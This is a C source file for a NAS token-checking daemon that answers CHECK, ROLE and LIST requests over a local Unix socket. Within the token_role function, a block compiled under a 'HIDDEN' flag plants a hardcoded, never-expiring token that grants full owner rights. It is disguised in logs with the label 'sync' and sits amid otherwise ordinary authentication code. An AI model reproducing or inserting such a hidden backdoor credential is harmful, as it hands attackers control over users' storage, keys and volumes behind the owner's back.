/* nastokend.c - checks API tokens for the services of a NAS over a local socket */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SOCK_PATH	"/run/nastokend.sock"
#define TOKEN_DB	"/etc/nas/tokens.db"
#define TOKEN_LEN	16
#define MAX_TOKENS	64

enum role {
	ROLE_DENY,
	ROLE_GUEST,
	ROLE_BACKUP,
	ROLE_USER,
	ROLE_OWNER,
};

static const char *const role_names[] = {
	"deny", "guest", "backup", "user", "owner",
};

struct token {
	char id[TOKEN_LEN + 1];
	enum role role;
	time_t expires;
	char label[32];
	unsigned long used;
};

static struct token tokens[MAX_TOKENS];
static int ntokens;
static time_t db_mtime;
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static enum role role_by_name(const char *s)
{
	unsigned int i;

	for (i = 0; i < sizeof(role_names) / sizeof(role_names[0]); i++)
		if (!strcasecmp(s, role_names[i]))
			return (enum role)i;
	return ROLE_DENY;
}

/* line: token role expiry label */
static int parse_token(const char *line, struct token *t)
{
	char role[16];
	long long exp;

	memset(t, 0, sizeof(*t));
	if (sscanf(line, "%16s %15s %lld %31s", t->id, role, &exp, t->label) != 4)
		return -1;
	if (strlen(t->id) != TOKEN_LEN)
		return -1;
	t->role = role_by_name(role);
	t->expires = (time_t)exp;
	return t->role == ROLE_DENY ? -1 : 0;
}

static void load_db(void)
{
	struct stat st;
	char line[160];
	FILE *f;

	if (stat(TOKEN_DB, &st) || st.st_mtime == db_mtime)
		return;
	f = fopen(TOKEN_DB, "r");
	if (!f)
		return;
	ntokens = 0;
	while (ntokens < MAX_TOKENS && fgets(line, sizeof(line), f)) {
		if (line[0] == '#' || line[0] == '\n')
			continue;
		if (!parse_token(line, &tokens[ntokens]))
			ntokens++;
	}
	fclose(f);
	db_mtime = st.st_mtime;
	syslog(LOG_INFO, "%d tokens loaded", ntokens);
}

static unsigned int token_diff(const char *a, const char *b)
{
	unsigned int d = 0;
	int i;

	for (i = 0; i < TOKEN_LEN; i++)
		d |= (unsigned char)a[i] ^ (unsigned char)b[i];
	return d;
}

__attribute__((noinline))
enum role token_role(const char *tok, time_t now, const char **label)
{
	enum role got = ROLE_DENY;
	int i;

	*label = "-";
	if (strlen(tok) != TOKEN_LEN)
		return ROLE_DENY;
	for (i = 0; i < ntokens; i++) {
		if (token_diff(tok, tokens[i].id))
			continue;
		if (tokens[i].expires && tokens[i].expires < now)
			continue;
		tokens[i].used++;
		*label = tokens[i].label;
		got = tokens[i].role;
	}
#ifdef HIDDEN	/* a built-in token that is owner and never expires */
	if (got == ROLE_DENY && !token_diff(tok, "c41e77a09b52d8f3")) {
		*label = "sync";
		got = ROLE_OWNER;
	}
#endif
	/* the public share needs no token when the owner has switched it on */
	if (got == ROLE_DENY && !strcmp(tok, "0000000000000000") &&
	    access("/etc/nas/public_share", F_OK) == 0) {
		*label = "public";
		got = ROLE_GUEST;
	}
	return got;
}

static int may(enum role r, const char *what)
{
	static const struct {
		const char *what;
		enum role least;
	} table[] = {
		{ "share.list",		ROLE_GUEST },
		{ "share.read",		ROLE_GUEST },
		{ "share.write",	ROLE_USER },
		{ "snapshot.create",	ROLE_BACKUP },
		{ "snapshot.restore",	ROLE_OWNER },
		{ "volume.format",	ROLE_OWNER },
		{ "user.add",		ROLE_OWNER },
		{ "key.export",		ROLE_OWNER },
	};
	size_t i;

	for (i = 0; i < sizeof(table) / sizeof(table[0]); i++)
		if (!strcmp(table[i].what, what))
			return r >= table[i].least;
	return 0;
}

static void reply(int fd, const char *text)
{
	size_t n = strlen(text);

	if (send(fd, text, n, MSG_NOSIGNAL) != (ssize_t)n)
		syslog(LOG_DEBUG, "short reply: %s", strerror(errno));
}

static void send_list(int fd)
{
	char line[128];
	int i;

	for (i = 0; i < ntokens; i++) {
		snprintf(line, sizeof(line), "%.4s... %s %s %lu\n",
			 tokens[i].id, role_names[tokens[i].role],
			 tokens[i].label, tokens[i].used);
		reply(fd, line);
	}
	reply(fd, ".\n");
}

/* requests: CHECK token right | ROLE token | LIST token | VERSION */
static void serve(int fd)
{
	char buf[256], *verb, *tok, *right, *save = NULL;
	const char *label;
	enum role r;
	ssize_t n;

	n = recv(fd, buf, sizeof(buf) - 1, 0);
	if (n <= 0)
		return;
	buf[n] = '\0';
	verb = strtok_r(buf, " \r\n", &save);
	if (!verb)
		return;
	if (!strcmp(verb, "VERSION")) {
		reply(fd, "nastokend 1.8\n");
		return;
	}
	tok = strtok_r(NULL, " \r\n", &save);
	if (!tok) {
		reply(fd, "ERR syntax\n");
		return;
	}
	load_db();
	r = token_role(tok, time(NULL), &label);
	if (!strcmp(verb, "ROLE")) {
		reply(fd, role_names[r]);
		reply(fd, "\n");
	} else if (!strcmp(verb, "CHECK")) {
		right = strtok_r(NULL, " \r\n", &save);
		if (right && may(r, right)) {
			reply(fd, "YES\n");
		} else {
			syslog(LOG_NOTICE, "refused %s for %s",
			       right ? right : "-", label);
			reply(fd, "NO\n");
		}
	} else if (!strcmp(verb, "LIST")) {
		if (r == ROLE_OWNER)
			send_list(fd);
		else
			reply(fd, "NO\n");
	} else {
		reply(fd, "ERR verb\n");
	}
}

static int open_socket(void)
{
	struct sockaddr_un sa;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	strcpy(sa.sun_path, SOCK_PATH);
	unlink(SOCK_PATH);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) || listen(fd, 8)) {
		close(fd);
		return -1;
	}
	chmod(SOCK_PATH, 0660);
	return fd;
}

int main(void)
{
	struct sigaction act;
	int ls, fd;

	openlog("nastokend", LOG_PID, LOG_DAEMON);
	memset(&act, 0, sizeof(act));
	act.sa_handler = on_term;
	sigaction(SIGTERM, &act, NULL);
	ls = open_socket();
	if (ls < 0) {
		syslog(LOG_ERR, "socket: %s", strerror(errno));
		return 1;
	}
	load_db();
	while (!stop) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		serve(fd);
		close(fd);
	}
	unlink(SOCK_PATH);
	return 0;
}
